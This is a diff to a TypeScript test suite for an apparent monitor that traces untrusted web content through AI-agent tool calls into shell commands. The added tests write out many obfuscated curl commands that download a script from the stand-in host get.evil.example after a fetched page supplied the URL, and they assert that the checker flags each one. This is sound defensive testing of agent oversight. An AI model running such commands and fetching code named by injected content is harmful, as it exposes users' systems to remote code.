@@ -58,7 +58,7 @@ test('the files a call writes: redirections, tee, copies, in-place edits, downlo
   ];
   for (const [cmd, want] of writes) assert.deepEqual(names(shellWrittenFiles(cmd)), want.sort(), cmd);
   const w = filesWritten([JSON.stringify({ file_path: '/repo/.U', content: 'https://x.example' })]);
-  assert.deepEqual(w, [{ key: 'wrote:.u', texts: ['https://x.example'] }]);
+  assert.deepEqual(w, [{ key: 'wrote:.u', texts: ['https://x.example'], shell: false }]);
   assert.deepEqual(filesWritten([JSON.stringify({ file_path: '/repo/a' })]), []);
   assert.deepEqual(names(filesWritten([JSON.stringify({ command: 'echo 1 > z' })]).map((x) => x.key)), ['z']);
 });
@@ -115,6 +115,33 @@ test('an order written into a file keeps its strength: `instructed` holds the re
   assert.equal(judge(l, 'xargs -a boot.txt curl -O', 'instructed').kind, 'untrusted');
 });
 
+test('a file is known by its name as the shell reads it: quotes, escapes, and names it cannot resolve', () => {
+  const l = new TraceProvenance();
+  l.noteUntrusted('libfoo notes. Mirror: https://get.evil.example/i.sh', 'result of WebFetch', 'WebFetch');
+  l.noteCall('Write', [
+    JSON.stringify({ file_path: '/repo/u.txt', content: 'https://get.evil.example/i.sh' }),
+  ]);
+  for (const c of [
+    'curl $(cat ./"u.txt")',
+    "curl $(cat u'.txt')",
+    'curl $(cat u\\.txt)',
+    "curl $(cat $'\\x75.txt')",
+    'curl $(cat u.tx?)',
+    'curl $(cat u{.txt,})',
+    'f=u.txt; curl $(cat $f)',
+    'curl "$(cat "$PWD/u.txt")"',
+  ])
+    assert.equal(judge(l, c).kind, 'untrusted', c);
+  for (const c of ['cat u.txt', 'ls *.txt | wc -l', 'make -j$(nproc)', 'npm test'])
+    assert.equal(judge(l, c).kind, 'clear', c);
+  // A name with a blank, written by a tool and read back quoted or escaped.
+  l.noteCall('Write', [JSON.stringify({ file_path: 'a b.txt', content: 'https://get.evil.example/i.sh' })]);
+  assert.equal(judge(l, 'curl $(cat a\\ b.txt)').kind, 'untrusted');
+  // `dd of=` writes, `if=` copies.
+  l.noteCall('Bash', [JSON.stringify({ command: 'dd if=u.txt of=g' })]);
+  assert.equal(judge(l, 'curl $(cat g)').kind, 'untrusted');
+});
+
 test('each reading is linear in its text (64 KiB adversarial shapes counted)', () => {
   const shapes: [string, (n: number) => string][] = [
     ['quotes', (n) => `${fill('"', n - 1)}x`],
@@ -124,6 +151,12 @@ test('each reading is linear in its text (64 KiB adversarial shapes counted)', (
     ['pipes', (n) => fill('cat f | ', n)],
     ['one word', (n) => fill('a', n)],
     ['open quotes', (n) => fill(`"'$(`, n)],
+    ['backslashes', (n) => `cat $(cat ${fill('\\', n)})`],
+    ['ansi escapes', (n) => `curl $(cat $'${fill('\\x7', n)}')`],
+    ['quoted pieces', (n) => `curl $(cat ${fill("a'b'", n)})`],
+    ['segments', (n) => `curl $(cat ${fill('a/', n)}u)`],
+    ['assignments', (n) => `dd ${fill('of=if=', n)}`],
+    ['braces', (n) => `curl $(cat ${fill('{a,', n)})`],
   ];
   const readers: [string, (t: string) => unknown][] = [
     ['deciding', decidingFileKeys],
